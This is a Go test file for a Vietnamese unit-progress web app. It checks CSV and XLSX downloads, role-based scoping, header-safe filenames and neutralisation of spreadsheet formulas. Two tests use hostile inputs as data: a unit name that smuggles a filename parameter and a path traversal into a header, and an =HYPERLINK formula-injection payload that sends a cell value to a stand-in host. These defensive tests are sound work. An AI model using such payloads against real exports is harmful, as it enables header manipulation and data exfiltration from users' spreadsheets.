package web

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"mime"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

func TestUnitsTableDownloadsAsCSVAndXLSXWithinScope(t *testing.T) {
	f := newFixture(t, Options{})
	f.withRound()
	f.holdAPI("HN.HBT.A.1", "2020-03-20")
	b := f.browser("")
	b.login("board", testPassword)
	if body := b.send("GET", "/", nil).Body.String(); !strings.Contains(body, `href="/units/HN.HBT/table.xlsx"`) {
		t.Error("the dashboard has no download link")
	}
	t.Run("CSV", func(t *testing.T) {
		res := b.send("GET", "/units/HN.HBT/table.csv", nil)
		if res.Code != http.StatusOK || !strings.Contains(res.Header().Get("Content-Disposition"), "HN-HBT-") {
			t.Fatalf("%d %q", res.Code, res.Header().Get("Content-Disposition"))
		}
		recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Body.String(), "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		byCode := map[string][]string{}
		for _, r := range recs[1:] {
			byCode[r[0]] = r
		}
		a := byCode["HN.HBT.A"]
		if len(recs) != 3 || recs[0][1] != "Đơn vị" || len(a) != 12 || a[1] != "Đảng bộ phường Bạch Mai" || a[2] == "grassroots_committee" ||
			a[4] != "30/06/2020" || a[8] != "1" || a[9] != "2" || a[10] != "50" || byCode["HN.HBT.B"] == nil {
			t.Errorf("%q", recs)
		}
	})
	t.Run("a past day's table, or a refusal of a day that is not one", func(t *testing.T) {
		res := b.send("GET", "/units/HN.HBT/table.csv?as_of=2020-03-19", nil)
		if res.Code != http.StatusOK || !strings.HasSuffix(strings.TrimSuffix(res.Header().Get("Content-Disposition"), `"`), "2020-03-19.csv") {
			t.Fatalf("%d %q", res.Code, res.Header().Get("Content-Disposition"))
		}
		recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Body.String(), "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range recs[1:] {
			if r[0] == "HN.HBT.A" && (r[8] != "0" || r[6] != "") { // A.1 was held on 20/03
				t.Errorf("Bạch Mai on 19/03: %q", r)
			}
		}
		for _, bad := range []string{"2020-02-30", "2099-01-01", "x"} {
			if res := b.send("GET", "/units/HN.HBT/table.csv?as_of="+bad, nil); res.Code != http.StatusUnprocessableEntity {
				t.Errorf("as_of=%s: %d", bad, res.Code)
			}
		}
	})
	t.Run("XLSX", func(t *testing.T) {
		res := b.send("GET", "/units/HN.HBT/table.xlsx", nil)
		if res.Code != http.StatusOK {
			t.Fatalf("%d", res.Code)
		}
		x, err := excelize.OpenReader(bytes.NewReader(res.Body.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		rows, err := x.GetRows("Tiến độ")
		if err != nil || len(rows) != 3 || rows[0][0] != "Mã" || !strings.Contains(rows[1][1]+rows[2][1], "Đảng bộ phường Bách Khoa") || rows[1][3] != "Chưa bắt đầu" {
			t.Errorf("%q (%v)", rows, err)
		}
		// The deadline is a date a spreadsheet sorts (a number shown
		// dd/mm/yyyy), not text.
		for _, cell := range []string{"E2", "E3"} {
			raw, _ := x.GetCellValue("Tiến độ", cell, excelize.Options{RawCellValue: true})
			shown, _ := x.GetCellValue("Tiến độ", cell)
			if _, err := strconv.Atoi(raw); err != nil || shown != "30/06/2020" {
				t.Errorf("deadline %s: raw %q shown %q, want a date shown 30/06/2020", cell, raw, shown)
			}
		}
	})
	t.Run("a ward secretary cannot download the district", func(t *testing.T) {
		s := f.browser("")
		s.login("secretary", testPassword)
		if res := s.send("GET", "/units/HN.HBT/table.csv", nil); res.Code != http.StatusNotFound && res.Code != http.StatusForbidden {
			t.Errorf("%d", res.Code)
		}
		if res := s.send("GET", "/units/HN.DD/table.csv", nil); res.Code != http.StatusNotFound {
			t.Errorf("another district: %d", res.Code)
		}
	})
}

// TestDownloadsAreNamedAfterTheUnitSafely: the files downloaded carry the
// unit's name as typed (quotes, semicolons, slashes, Vietnamese letters) in
// an RFC 6266 header that none of it can break.
func TestDownloadsAreNamedAfterTheUnitSafely(t *testing.T) {
	f := newFixture(t, Options{})
	f.withReportWeek()
	const name = `Quận "Hai Bà"; filename=x.exe ../a/b\c Trưng`
	const clean = `Quận -Hai Bà-; filename=x.exe ..-a-b-c Trưng`
	body, _ := json.Marshal(map[string]any{"name": name, "version": 1})
	if res := f.do("PATCH", "/api/v1/units/HN.HBT", f.tokens["admin"], string(body)); res.Code != http.StatusOK {
		t.Fatalf("rename: %d %s", res.Code, res.Body)
	}
	if res := f.do("POST", "/api/v1/units/HN.HBT/reports", f.tokens["board"], `{"week":"2020-W12"}`); res.Code != http.StatusCreated {
		t.Fatalf("make the report: %d %s", res.Code, res.Body)
	}
	b := f.browser("")
	b.login("board", testPassword)
	for _, tc := range []struct {
		path, kind, want, fallback string
	}{
		{"/units/HN.HBT/table.csv", "attachment", clean + " HN-HBT-", "Quan-Hai-Ba-filename-x.exe-..-a-b-c-Trung-HN-HBT-"},
		{"/units/HN.HBT/table.xlsx", "attachment", clean + " HN-HBT-", "Quan-Hai-Ba-filename-x.exe-..-a-b-c-Trung-HN-HBT-"},
		{"/units/HN.HBT/reports/2020-W12/report.xlsx", "attachment", "Báo cáo tuần " + clean + " HN.HBT-2020-W12.xlsx", "Bao-cao-tuan-Quan-Hai-Ba-filename-x.exe-..-a-b-c-Trung-HN.HBT-2020-W12.xlsx"},
		{"/units/HN.HBT/reports/2020-W12/report.html", "inline", "Báo cáo tuần " + clean + " HN.HBT-2020-W12.html", "Bao-cao-tuan-Quan-Hai-Ba-filename-x.exe-..-a-b-c-Trung-HN.HBT-2020-W12.html"},
		{"/units/HN.HBT/reports/2020-W12/report.csv?sep=semicolon", "attachment", "Báo cáo tuần " + clean + " HN.HBT-2020-W12-cham-phay.csv", "Bao-cao-tuan-Quan-Hai-Ba-filename-x.exe-..-a-b-c-Trung-HN.HBT-2020-W12-cham-phay.csv"},
	} {
		t.Run(tc.path, func(t *testing.T) {
			res := b.send("GET", tc.path, nil)
			cd := res.Header().Get("Content-Disposition")
			if res.Code != http.StatusOK {
				t.Fatalf("%d %s", res.Code, res.Body)
			}
			kind, params, err := mime.ParseMediaType(cd)
			if err != nil || kind != tc.kind || !strings.HasPrefix(params["filename"], tc.want) {
				t.Errorf("Content-Disposition %q: %q %q %v; want %s with the name %q", cd, kind, params["filename"], err, tc.kind, tc.want)
			}
			if !strings.Contains(cd, `filename="`+tc.fallback) || strings.Count(cd, ";") != 2 {
				t.Errorf("Content-Disposition %q: want the ASCII fallback %q and two parameters", cd, tc.fallback)
			}
		})
	}
}

// TestUnitsTableMakesNamesThatLookLikeFormulasInert: a unit named like a
// formula downloads as inert text in the CSV and as a text cell in the XLSX.
func TestUnitsTableMakesNamesThatLookLikeFormulasInert(t *testing.T) {
	f := newFixture(t, Options{})
	f.withRound()
	const name = `=HYPERLINK("http://x.example/?"&A1,"Bấm")`
	body, _ := json.Marshal(map[string]any{"name": name, "version": 1})
	if res := f.do("PATCH", "/api/v1/units/HN.HBT.A", f.tokens["admin"], string(body)); res.Code != http.StatusOK {
		t.Fatalf("rename: %d %s", res.Code, res.Body)
	}
	b := f.browser("")
	b.login("board", testPassword)
	res := b.send("GET", "/units/HN.HBT/table.csv", nil)
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Body.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range recs[1:] {
		if r[0] == "HN.HBT.A" {
			found = r[1] == "'"+name
		}
	}
	if !found {
		t.Errorf("the CSV does not hold the name made inert: %q", recs)
	}
	res = b.send("GET", "/units/HN.HBT/table.xlsx", nil)
	x, err := excelize.OpenReader(bytes.NewReader(res.Body.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	rows, _ := x.GetRows("Tiến độ")
	for i, r := range rows {
		if r[0] != "HN.HBT.A" {
			continue
		}
		cell := fmt.Sprintf("B%d", i+1)
		typ, _ := x.GetCellType("Tiến độ", cell)
		formula, _ := x.GetCellFormula("Tiến độ", cell)
		if r[1] != name || formula != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
			t.Errorf("%s = %q (type %v, formula %q), want the name as text", cell, r[1], typ, formula)
		}
	}
}

// TestTheReportsCSVComesWithSemicolonsForExcelInVietnamese: the report's
// page offers its CSV separated by semicolons, labelled for Excel with
// Vietnamese settings; an unknown separator is refused, writing nothing.
func TestTheReportsCSVComesWithSemicolonsForExcelInVietnamese(t *testing.T) {
	f := newFixture(t, Options{})
	f.withReportWeek()
	if res := f.do("POST", "/api/v1/units/HN.HBT/reports", f.tokens["board"], `{"week":"2020-W12"}`); res.Code != http.StatusCreated {
		t.Fatalf("make the report: %d %s", res.Code, res.Body)
	}
	b := f.browser("")
	b.login("board", testPassword)
	page := b.send("GET", "/units/HN.HBT/reports/2020-W12", nil).Body.String()
	if want := `href="/units/HN.HBT/reports/2020-W12/report.csv?sep=semicolon" download>CSV (dấu ;, Excel tiếng Việt)</a>`; !strings.Contains(page, want) {
		t.Errorf("the page lacks %s", want)
	}
	for _, tc := range []struct {
		path string
		sep  string
	}{{"/units/HN.HBT/reports/2020-W12/report.csv", ","}, {"/units/HN.HBT/reports/2020-W12/report.csv?sep=semicolon", ";"}} {
		res := b.send("GET", tc.path, nil)
		header := strings.SplitN(strings.TrimPrefix(res.Body.String(), "\ufeff"), "\n", 2)[0]
		if res.Code != http.StatusOK || !strings.HasPrefix(header, "Mã"+tc.sep+"Đơn vị"+tc.sep) {
			t.Errorf("%s: %d, header %q", tc.path, res.Code, header)
		}
	}
	if res := f.do("GET", "/api/v1/units/HN.HBT/reports/2020-W12?format=csv&sep=tab", f.tokens["board"], ""); res.Code != http.StatusUnprocessableEntity && res.Code != http.StatusBadRequest {
		t.Errorf("sep=tab: %d %s", res.Code, res.Body)
	}
}
